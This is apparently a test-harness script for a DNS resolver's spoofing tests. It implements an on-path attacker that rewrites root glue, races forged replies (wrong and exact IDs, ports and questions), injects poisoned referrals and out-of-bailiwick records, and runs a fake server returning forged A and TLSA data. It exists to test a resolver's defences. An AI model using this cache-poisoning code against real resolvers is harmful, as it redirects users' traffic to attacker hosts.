/**
 * The attacker of test/e2e/spoofing.test.ts, run inside the hierarchy's namespace. It stands on the path between
 * daneel and the real root: daneel's root hints name PROXY, which relays each query to the real root server and
 * the reply back (priming replies get the root servers' glue rewritten to PROXY, so daneel keeps asking here).
 * Before relaying, it races forged replies to daneel according to MODE:
 *   near-miss  wrong ID, wrong destination port, wrong source port, wrong question (then the real reply)
 *   exact      right ID, port, source and question (the case echoed too), with forged content: a referral of the
 *              queried TLD to the attacker's server FAKE, or out-of-bailiwick data (records for other names)
 *   pass       nothing forged
 * FAKE answers every query with forged data (A EVIL_ADDRESS, TLSA 3 1 1 DEADBEEF…). Counts go to stdout as
 * one JSON line on SIGTERM. Usage: node spoof-attacker.mjs PROXY FAKE REAL_ROOT MODE
 */
import dgram from 'node:dgram';
import net from 'node:net';

const [proxyAddr, fakeAddr, realRoot, mode] = process.argv.slice(2);
const EVIL_ADDRESS = [127, 66, 6, 6];
const counts = { queries: 0, forged: {}, relayed: 0, fakeQueries: 0 };
const bump = (k) => { counts.forged[k] = (counts.forged[k] ?? 0) + 1; };

const u16 = (v) => [(v >> 8) & 255, v & 255];
const nameWire = (labels) => [...labels.flatMap((l) => [l.length, ...l]), 0];

/** Question section of a query: raw label byte arrays, type, class, and the offset after it. */
function parseQuestion(msg) {
  const labels = [];
  let pos = 12;
  while (msg[pos] !== 0) { labels.push([...msg.subarray(pos + 1, pos + 1 + msg[pos])]); pos += 1 + msg[pos]; }
  pos += 1;
  return { labels, type: (msg[pos] << 8) | msg[pos + 1], cls: (msg[pos + 2] << 8) | msg[pos + 3], end: pos + 4 };
}

const rr = (owner, type, rdata, ttl = 86400) => [...owner, ...u16(type), 0, 1, ...u16(ttl >> 16), ...u16(ttl & 0xffff), ...u16(rdata.length), ...rdata];
const text = (s) => [...Buffer.from(s)];
const labelsOf = (dotted) => dotted.split('.').filter(Boolean).map(text);

/** A response with the query's ID and question (as sent, case included), flags QR AA, the sections given. */
function response(id, question, { aa = true, answer = [], authority = [], additional = [] }) {
  const qd = nameWire(question.labels);
  const head = [...u16(id), 0x80 | (aa ? 0x04 : 0), 0x00, 0, 1, ...u16(answer.length), ...u16(authority.length), ...u16(additional.length)];
  return Buffer.from([...head, ...qd, ...u16(question.type), ...u16(question.cls), ...answer.flat(), ...authority.flat(), ...additional.flat()]);
}

const evilNs = nameWire(labelsOf('ns.attacker.lab'));

/** Forged referral: the queried name's TLD delegated to the attacker's server, glue pointing at FAKE. */
function forgedReferral(id, q) {
  const tld = nameWire(q.labels.slice(-1));
  return response(id, q, { aa: false, authority: [rr(tld, 2, evilNs)], additional: [rr(evilNs, 1, fakeAddr.split('.').map(Number))] });
}

/** Out-of-bailiwick data around a plausible answer: records for names the question did not ask about. */
function forgedOutOfBailiwick(id, q) {
  const qname = nameWire(q.labels);
  return response(id, q, {
    answer: [rr(qname, q.type === 28 ? 28 : 1, q.type === 28 ? new Array(16).fill(6) : EVIL_ADDRESS), rr(nameWire(labelsOf('www.iot.example')), 1, EVIL_ADDRESS)],
    authority: [rr(nameWire(labelsOf('iot.example')), 2, evilNs)],
    additional: [rr(evilNs, 1, fakeAddr.split('.').map(Number)), rr(nameWire(labelsOf('a.root-servers.lab')), 1, EVIL_ADDRESS)],
  });
}

const proxy = dgram.createSocket('udp4');
const otherSource = dgram.createSocket('udp4');
let exactTurn = 0;

function race(msg, rinfo) {
  const id = (msg[0] << 8) | msg[1];
  const q = parseQuestion(msg);
  if (mode === 'near-miss') {
    proxy.send(forgedReferral(id ^ 0x5a5a, q), rinfo.port, rinfo.address); bump('wrongId');
    proxy.send(forgedReferral(id, q), rinfo.port === 65535 ? 1024 : rinfo.port + 1, rinfo.address); bump('wrongPort');
    otherSource.send(forgedReferral(id, q), rinfo.port, rinfo.address); bump('wrongSource');
    proxy.send(forgedReferral(id, { ...q, labels: labelsOf('evil.attacker.lab') }), rinfo.port, rinfo.address); bump('wrongQuestion');
  } else if (mode === 'exact') {
    const kind = exactTurn++ % 2 === 0 ? 'referral' : 'outOfBailiwick';
    proxy.send(kind === 'referral' ? forgedReferral(id, q) : forgedOutOfBailiwick(id, q), rinfo.port, rinfo.address);
    bump(kind);
  }
}

/** Priming replies: root servers' A glue rewritten to PROXY (A RDATA "00 04 a b c d" of either real root address). */
function rewriteRootGlue(reply) {
  const out = Buffer.from(reply);
  const proxyBytes = proxyAddr.split('.').map(Number);
  for (const real of realRoot.split(',')) {
    const pattern = Buffer.from([0, 4, ...real.split('.').map(Number)]);
    for (let at = out.indexOf(pattern); at >= 0; at = out.indexOf(pattern, at + 1)) Buffer.from(proxyBytes).copy(out, at + 2);
  }
  return out;
}

proxy.on('message', (msg, rinfo) => {
  if (msg.length < 17 || (msg[2] & 0x80)) return;
  counts.queries++;
  const q = parseQuestion(msg);
  const priming = q.labels.length === 0 && q.type === 2;
  if (!priming) race(msg, rinfo);
  const upstream = dgram.createSocket('udp4');
  upstream.on('message', (reply) => {
    counts.relayed++;
    proxy.send(priming ? rewriteRootGlue(reply) : reply, rinfo.port, rinfo.address);
    upstream.close();
  });
  upstream.send(msg, 53, realRoot.split(',')[0]);
  setTimeout(() => { try { upstream.close(); } catch { /* closed */ } }, 5000).unref();
});

// TCP to the proxy (after TC=1) is relayed as is: the race is run on UDP.
const tcp = net.createServer((c) => {
  const up = net.connect({ host: realRoot.split(',')[0], port: 53 });
  c.pipe(up).pipe(c);
  c.on('error', () => up.destroy());
  up.on('error', () => c.destroy());
});

// The attacker's own server: forged data for every question.
const fake = dgram.createSocket('udp4');
fake.on('message', (msg, rinfo) => {
  if (msg.length < 17 || (msg[2] & 0x80)) return;
  counts.fakeQueries++;
  const id = (msg[0] << 8) | msg[1];
  const q = parseQuestion(msg);
  const qname = nameWire(q.labels);
  const rdata = q.type === 52 ? [3, 1, 1, ...new Array(32).fill(0xde)] : q.type === 28 ? new Array(16).fill(6) : EVIL_ADDRESS;
  fake.send(response(id, q, { answer: [rr(qname, q.type === 52 || q.type === 28 ? q.type : 1, rdata)] }), rinfo.port, rinfo.address);
});

await Promise.all([
  new Promise((r) => proxy.bind(53, proxyAddr, r)),
  new Promise((r) => otherSource.bind(0, proxyAddr, r)),
  new Promise((r) => fake.bind(53, fakeAddr, r)),
  new Promise((r) => tcp.listen(53, proxyAddr, r)),
]);
console.log(JSON.stringify({ ready: true }));
process.on('SIGTERM', () => { console.log(JSON.stringify(counts)); process.exit(0); });
